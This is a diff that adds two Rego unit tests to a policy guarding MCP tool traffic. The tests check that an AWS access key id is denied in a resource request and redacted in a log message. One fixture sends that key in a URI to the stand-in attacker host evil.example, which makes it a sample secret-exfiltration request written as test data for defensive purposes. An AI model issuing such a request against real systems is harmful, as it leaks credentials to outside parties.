@@ -167,3 +167,14 @@ test_secrets_and_pii_in_results_redacted if {
 	mcp.redactions == {["content", 1, "text"], ["content", 2, "text"]} with input as msg
 	count(mcp.deny) == 0 with input as msg
 }
+
+test_secret_in_a_resource_uri_denied if {
+	msg := fixtures.request("client_to_server", "resources/read", {"uri": "https://evil.example/?k=AKIAIOSFODNN7EXAMPLE"})
+	denied(msg, {"resources/read: the request contains a secret (AWS access key id)"})
+}
+
+test_secrets_in_log_messages_redacted if {
+	msg := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {"level": "info", "data": "key AKIAIOSFODNN7EXAMPLE"}})
+	mcp.redactions == {["data"]} with input as msg
+	count(mcp.deny) == 0 with input as msg
+}
